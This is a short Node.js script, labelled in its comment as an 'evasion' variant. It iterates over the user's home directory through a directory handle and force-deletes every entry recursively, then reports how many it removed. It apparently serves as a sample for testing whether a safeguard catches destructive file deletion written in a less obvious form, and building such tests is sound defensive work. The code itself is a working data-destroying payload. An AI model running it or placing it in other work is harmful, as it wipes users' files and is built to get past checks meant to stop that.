// Evasion: delete every entry of the home directory read one by one from a
// directory handle (fs.opendirSync + readSync) in a while loop.
const fs = require('fs');
const path = require('path');

const base = process.env.HOME;
const handle = fs.opendirSync(base);
let entry;
let count = 0;
while ((entry = handle.readSync()) !== null) {
  fs.rmSync(path.join(base, entry.name), { recursive: true, force: true });
  count += 1;
}
handle.closeSync();
console.log(`removed ${count} entries`);
